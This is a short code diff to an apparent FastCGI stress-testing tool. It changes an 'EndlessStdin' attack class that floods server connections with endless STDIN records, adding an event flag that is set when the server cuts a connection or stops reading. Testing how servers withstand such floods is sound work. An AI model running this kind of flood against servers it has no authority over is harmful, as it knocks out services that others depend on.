@@ -273,6 +273,11 @@ class EndlessStdin(Attack):
 
     opening = begin() + record(PARAMS, 1, pair(b"SCRIPT_NAME", b"/hello")) + record(PARAMS, 1)
 
+    def __init__(self, address: Address, count: int) -> None:
+        super().__init__(address, count)
+        #: Set once a send failed: the server closed a connection, or stopped reading.
+        self.cut = threading.Event()
+
     def keep_going(self) -> None:
         piece = record(STDIN, 1, bytes(0xFFF8)) * 4
         for sock in self.socks:
@@ -282,6 +287,7 @@ class EndlessStdin(Attack):
                 try:
                     sock.sendall(piece)  # whole records, or the stream is garbage
                 except OSError:  # closed, or no longer read: stop
+                    self.cut.set()
                     self.stopping.wait()
                     return
                 self.sent += len(piece)
